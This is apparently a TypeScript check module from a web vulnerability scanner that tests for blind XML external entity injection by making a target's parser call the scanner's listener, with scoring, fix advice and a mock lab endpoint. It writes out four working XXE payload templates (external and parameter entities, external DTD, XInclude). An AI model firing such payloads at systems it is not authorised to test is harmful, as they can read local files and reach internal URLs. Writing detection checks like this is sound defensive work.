import { defineRequestCheck } from '../../define-active-check.ts';
import { evenUnanswered } from '../../experiment.ts';
import type { LabTools } from '../../lab.ts';
import { fill } from '../../shared/fill.ts';
import { countLeaves, documentOf, mayTakeXml, requestWithXml, withLeaf } from '../../shared/xml-document.ts';

/** Makes a parser fetch a URL. */
interface Variant {
  /** Precedes the document. */
  declaration?: string;
  /** Replaces the first content of the document. */
  content?: string;
}

const inFirst = (document: string, content: string) => withLeaf(document, 0, content);

function write({ declaration = '', content }: Variant, url: string, document: string): string {
  const changed = content === undefined ? document : inFirst(document, fill(content, { url }));
  return `${fill(declaration, { url })}${changed}`;
}

const VARIANTS: readonly Variant[] = [
  { declaration: '<!DOCTYPE r [<!ENTITY % a SYSTEM "{url}"> %a;]>' },
  { declaration: '<!DOCTYPE r [<!ENTITY a SYSTEM "{url}">]>', content: '&a;' },
  { declaration: '<!DOCTYPE r SYSTEM "{url}">' },
  { content: '<i:include xmlns:i="http://www.w3.org/2001/XInclude" parse="text" href="{url}"/>' },
];

export default defineRequestCheck({
  id: 'xxe-oob',
  flaw: { name: 'xxe', rank: 1 },
  title: 'Blind XML external entity injection (XXE)',
  cwe: 611,
  cvss: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N',
  cvss4: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:N/VA:N/SC:N/SI:N/SA:N',
  impact: 'An attacker makes the server request internal URLs and send local files to a server of their own.',
  why: 'The XML parser resolves external references of the document. An attacker makes the server request internal URLs, reads local files and sends their content to a server of their own. An external entity in the document called our listener; the same URL as plain text did not.',
  fix: 'Disable DTDs, external entities and XInclude in the XML parser. Reject XML where the endpoint expects JSON.',
  references: [
    'https://cheatsheetseries.owasp.org/cheatsheets/XML_External_Entity_Prevention_Cheat_Sheet.html',
    'https://owasp.org/www-project-web-security-testing-guide/stable/4-Web_Application_Security_Testing/07-Input_Validation_Testing/07-Testing_for_XML_Injection',
    'https://cwe.mitre.org/data/definitions/611.html',
  ],
  risk: 'harmless',
  appliesTo: (item) => mayTakeXml(item) && countLeaves(documentOf(item)) > 0,
  needsOutside: true,
  variants: VARIANTS,
  maxRequests: 8,
  proof: {
    plan(item, variant, { word }, { outside }) {
      if (!outside) return undefined;
      const [attack, control] = [`${word}-attack`, `${word}-control`];
      const document = documentOf(item);
      return {
        control: evenUnanswered({
          label: 'URL of our listener as plain text',
          request: requestWithXml(item, inFirst(document, outside.urlFor(control))),
          calling: { tag: control, kind: 'http' },
          isControl: true,
        }),
        attack: evenUnanswered({
          label: 'URL of our listener as an external entity',
          request: requestWithXml(item, write(variant, outside.urlFor(attack), document)),
          calling: { tag: attack, kind: 'http' },
        }),
      };
    },
    judge({ control, attack }) {
      if ((control.heard ?? []).length > 0) return 'REFUTED';
      const kinds = (attack.heard ?? []).map(({ kind }) => kind);
      if (kinds.includes('http')) return 'PROVED';
      return kinds.includes('dns') ? 'LIKELY' : 'VOID';
    },
  },
  lab(tools?: LabTools) {
    const take = async (xml: string, isFollowing: boolean) => {
      const [, url] = /<!ENTITY\s+%?\s*\w+\s+SYSTEM\s+"([^"]*)"/.exec(xml) ?? [];
      if (url !== undefined && isFollowing) await tools?.get(url);
      return { status: 202, body: 'Thank you' };
    };
    return {
      item: {
        method: 'POST',
        url: '/orders',
        parameters: [],
        seenAs: null,
        contentType: 'text/plain',
        body: { type: 'text/xml', text: '<?xml version="1.0"?><order><id>7</id><tea>Sencha</tea></order>' },
      },
      vulnerable: ({ body }) => take(body, true),
      safe: ({ body }) => take(body, false),
    };
  },
});
